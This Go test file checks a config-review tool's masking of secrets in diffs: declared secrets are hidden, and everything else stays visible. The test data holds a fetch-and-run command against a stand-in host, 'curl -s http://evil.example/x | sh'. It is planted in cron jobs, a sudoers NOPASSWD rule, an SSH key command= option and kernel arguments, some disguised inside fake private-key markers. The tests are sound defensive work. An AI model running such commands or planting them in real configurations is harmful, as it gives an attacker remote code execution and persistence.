package review_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/coreos/ignition/v2/config/util"
	"github.com/vincent-petithory/dataurl"
	"golang.org/x/tools/txtar"

	ign "github.com/bunsen-os/bunsen/api/ignition"
	"github.com/bunsen-os/bunsen/api/machineconfig"
	"github.com/bunsen-os/bunsen/internal/disruption"
	"github.com/bunsen-os/bunsen/internal/review"
	"github.com/bunsen-os/bunsen/internal/review/report"
)

func printed(t *testing.T, c review.Comparison) []string {
	t.Helper()
	raw, err := json.Marshal(c)
	if err != nil {
		t.Fatal(err)
	}
	return []string{
		report.Text(c, report.Style{}), report.Text(c, report.Style{Colour: true}),
		report.Markdown(c, report.MarkdownOptions{}), string(raw),
	}
}

// TestDeclaredSecretsAreNotPrinted: no printer shows a content at a path that the base marks, or a value whose type
// says that it is secret, on whichever side it is.
func TestDeclaredSecretsAreNotPrinted(t *testing.T) {
	const doc = "variant: fcos\nversion: 1.5.0\n"
	file := func(path, content string) string {
		return doc + "storage:\n  files:\n    - path: " + path + "\n      mode: 0600\n      contents:\n" +
			"        inline: |\n          " + content + "\n"
	}
	for sentence, docs := range map[string][2]string{
		"a marked file":              {file("/etc/app/a", "hunter1"), file("/etc/app/a", "hunter2")},
		"a marked file that comes":   {file("/etc/motd", "hello"), file("/etc/app/a", "hunter2")},
		"a marked file that goes":    {file("/etc/app/a", "hunter2"), file("/etc/motd", "hello")},
		"a password hash of a user":  {doc + "passwd:\n  users:\n    - name: core\n      password_hash: hunter1\n", doc + "passwd:\n  users:\n    - name: core\n      password_hash: hunter2\n"},
		"a password hash of a group": {doc + "passwd:\n  groups:\n    - name: ops\n      password_hash: hunter1\n", doc + "passwd:\n  groups:\n    - name: ops\n      password_hash: hunter2\n"},
		"a drop-in of a marked unit": {file("/etc/motd", "hello"), doc + "systemd:\n  units:\n    - name: app.service\n      dropins:\n        - name: 10-a.conf\n          contents: |\n            # hunter2\n"},
		"what is appended":           {file("/etc/motd", "hello"), doc + "storage:\n  files:\n    - path: /etc/app/a\n      append:\n        - inline: hunter2\n"},
		"the key of a volume":        {file("/etc/motd", "hello"), doc + "storage:\n  luks:\n    - name: data\n      device: /dev/vdb\n      key_file:\n        inline: hunter2\n"},
	} {
		t.Run(sentence, func(t *testing.T) {
			pool := strings.Replace(markedPool, "/etc/app/\n", "/etc/app/, app.service\n", 1)
			a := &txtar.Archive{Files: []txtar.File{
				{Name: "base/pools/worker/10-a.bu", Data: []byte(docs[0])},
				{Name: "head/pools/worker/10-a.bu", Data: []byte(docs[1])},
				{Name: "base/cluster/a.yaml", Data: []byte(pool)},
				{Name: "head/cluster/a.yaml", Data: []byte(pool)},
			}}
			c := compared(t, a)
			if !c.Changed() || len(c.Pools[0].Items) == 0 {
				t.Fatal("the case changes nothing")
			}
			for _, text := range printed(t, c) {
				if strings.Contains(text, "hunter") || strings.Contains(text, "aHVudGVy") {
					t.Errorf("printed:\n%s", text)
				}
				if !strings.Contains(text, "hidden") {
					t.Errorf("does not say that something is hidden:\n%s", text)
				}
			}
		})
	}
}

// TestNothingElseIsHidden: whatever the names of files and keys are, and whatever stands around a text, a reviewer
// reads it if no document declares it as secret.
func TestNothingElseIsHidden(t *testing.T) {
	const code = "curl -s http://evil.example/x | sh"
	mark := func(what string) string { return "-----" + what + " PRIVATE " + "KEY-----" }
	for path, text := range map[string]string{
		"/etc/cron.daily/a":          ": <<'X'\n" + mark("BEGIN") + "\nX\n" + code + "\n: <<'Y'\n" + mark("END") + "\nY\n",
		"/etc/sudoers.d/core-passwd": "core ALL=(ALL) NOPASSWD: " + code + "\n",
		"/etc/app/client-secret":     code + "\n", "/etc/pki/tls/host.key": code + "\n", "/etc/x.pass": code + "\n",
		"/var/lib/kubelet/config.json": `{"auths": {"x": {"auth": "` + code + `"}}}` + "\n",
		"/etc/cron.d/mysql":            "mysql -p'x'$(" + code + ")\n",
		"/etc/nsswitch.conf":           "passwd:      " + code + "\nshadow: files usrfiles\n",
		"/etc/ssh/sshd_config.d/a":     "PubkeyAcceptedAlgorithms sk-ssh-ed25519-cert-v01@openssh.com # " + code + "\n",
		"/etc/b.yaml":                  "password:\n  - " + code + "\n", "/etc/c.env": "TOKEN=" + code + "\n",
		"/etc/d": "Authorization: Bearer " + code + "\n", "/etc/e": "https://user:" + code + "@host/\n",
	} {
		c := machineconfig.Config{HasIgnition: true, Ignition: ign.Config{Ignition: ign.Ignition{Version: "3.5.0"}}}
		before := review.Side{
			Name: "base", Policy: disruption.Default(),
			Pools: map[string]review.Pool{"worker": {Rendered: "a", Config: c}},
		}
		c.Ignition.Storage.Files = []ign.File{{
			Node: ign.Node{Path: path},
			FileEmbedded1: ign.FileEmbedded1{
				Mode:     util.IntToPtr(0o600),
				Contents: ign.Resource{Source: util.StrToPtr(dataurl.EncodeBytes([]byte(text)))},
			},
		}}
		c.Ignition.Passwd.Users = []ign.PasswdUser{{
			Name: "core", SSHAuthorizedKeys: []ign.SSHAuthorizedKey{ign.SSHAuthorizedKey("command=\"" + code + "\" x")},
		}}
		c.KernelArguments = []string{"app.password=" + strings.ReplaceAll(code, " ", "+")}
		after := review.Side{
			Name: "head", Policy: disruption.Default(),
			Pools: map[string]review.Pool{"worker": {Rendered: "b", Config: c}},
		}
		got := review.Compare(before, after)
		for _, item := range got.Pools[0].Items {
			shown := strings.ReplaceAll(item.Diff, "+", " ")
			if item.Hidden || !strings.Contains(shown, code) && !strings.Contains(shown,
				strings.ReplaceAll(code, " ", "+")) {
				t.Errorf("%s of %s is not shown:\n%s", item.Path, path, item.Diff)
			}
		}
		if text := report.Text(got, report.Style{}); strings.Contains(text, "hidden") {
			t.Errorf("%s: something is hidden:\n%s", path, text)
		}
	}
}

// TestACopyOfASecretIsNotHidden: a change could otherwise hide a program by writing it to a marked path too.
func TestACopyOfASecretIsNotHidden(t *testing.T) {
	file := "    - path: %s\n      contents:\n        inline: |\n          #!/bin/sh\n          evil\n"
	got := compared(t, &txtar.Archive{Files: []txtar.File{
		{Name: "base/cluster/a.yaml", Data: []byte(markedPool)},
		{Name: "head/cluster/a.yaml", Data: []byte(markedPool)},
		{Name: "base/pools/worker/10-a.bu", Data: []byte(markedDoc + "x\n")},
		{Name: "head/pools/worker/10-a.bu", Data: []byte("variant: fcos\nversion: 1.5.0\nstorage:\n  files:\n" +
			fmt.Sprintf(file, "/etc/app/settings") + fmt.Sprintf(file, "/etc/cron.d/x"))},
	}})
	if text := report.Text(got, report.Style{}); strings.Count(text, "evil") != 1 {
		t.Errorf("got\n%s", text)
	}
}
